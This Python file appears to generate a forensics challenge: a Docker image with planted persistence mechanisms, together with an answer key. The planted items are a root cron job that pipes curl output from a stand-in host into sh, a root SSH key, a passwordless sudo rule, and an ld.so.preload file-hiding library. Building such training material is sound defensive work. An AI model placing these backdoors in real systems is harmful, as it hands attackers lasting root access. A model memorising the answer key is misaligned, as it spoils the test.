"""Every usual way to stay: a cron job, a key, a sudo rule and a preloaded library."""

from __future__ import annotations

from collections.abc import Mapping

from forensics.samples import Answer, Recipe

from ._debian import CRON, CURL, OPENSSH, SUDO, debian_image
from ._elf import library
from ._fakes import ssh_public_key
from ._image import Layer, copy, run

_CRON = """SHELL=/bin/sh
PATH=/usr/sbin:/usr/bin:/sbin:/bin
*/10 * * * * root curl -fsSL http://ntp-sync.invalid/s.sh | sh >/dev/null 2>&1
"""
_LIBRARY = "/usr/lib/x86_64-linux-gnu/libaudit-sys.so"
_HOOK = library(
    "libaudit-sys.so",
    [b"/proc/self/fd/%d", b"kdevtmpfs-helper", b"/proc/%s/stat", b"RTLD_NEXT"],
    ["readdir", "readdir64", "fopen", "dlsym"],
)


def _make() -> Mapping[str, bytes]:
    image, debian = debian_image("persistence-kit", {"Cmd": ["cron", "-f"]})
    image.step(
        run("apt-get install -y cron curl openssh-server sudo"),
        debian.install(Layer(), CRON, CURL, OPENSSH, SUDO),
    )
    image.step(run("echo setup"), Layer().file("/etc/cron.d/ntpsync", _CRON))
    keys = Layer().file("/root/.ssh/authorized_keys", ssh_public_key("persistence", "ops@maintenance"), 0o600)
    image.step(copy("ssh/", "/root/.ssh/"), keys)
    sudo = Layer().file("/etc/sudoers.d/90-build", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440)
    image.step(copy("sudoers.d/", "/etc/sudoers.d/"), sudo)
    preload = Layer().file(_LIBRARY, _HOOK, 0o755).file("/etc/ld.so.preload", f"{_LIBRARY}\n")
    image.step(run("install -m 755 /mnt/libaudit-sys.so /usr/lib/x86_64-linux-gnu/"), preload)
    image.step('CMD ["cron" "-f"]')
    return {".tar": image.docker_archive()}


RECIPE = Recipe(
    id="persistence-kit",
    title="Four ways back in",
    level="medium",
    briefing="""
After an incident the containers were rebuilt from this image, and the intruder was back within
minutes, every time.

- Which doors does the image itself hold open?
- Which of them would survive if you deleted the others?
- What is hidden from somebody who lists processes inside the container, and by what?
""",
    make=_make,
    answers=(
        Answer(
            categories=("persistence", "backdoor"),
            severity="high",
            layer=2,
            path="/etc/cron.d/ntpsync",
            state="visible",
            why="A job that fetches a script from the network every ten minutes and runs it as root.",
        ),
        Answer(
            categories=("persistence", "backdoor", "credential-access"),
            severity="medium",
            layer=3,
            path="/root/.ssh/authorized_keys",
            state="visible",
            why="A key that opens root's account to whoever holds its other half.",
        ),
        Answer(
            categories=("privilege-escalation", "persistence"),
            severity="medium",
            layer=4,
            path="/etc/sudoers.d/90-build",
            state="visible",
            why="The web server's account becomes root without a password.",
        ),
        Answer(
            categories=("persistence", "defense-evasion", "backdoor", "privilege-escalation"),
            severity="high",
            layer=5,
            path="/etc/ld.so.preload",
            state="visible",
            why="Every program that starts loads the named library first.",
        ),
        Answer(
            categories=("defense-evasion", "unexpected-binary", "backdoor", "persistence"),
            severity="high",
            layer=5,
            path=_LIBRARY,
            state="visible",
            why="A library that no package owns and replaces the functions that list files.",
        ),
    ),
)
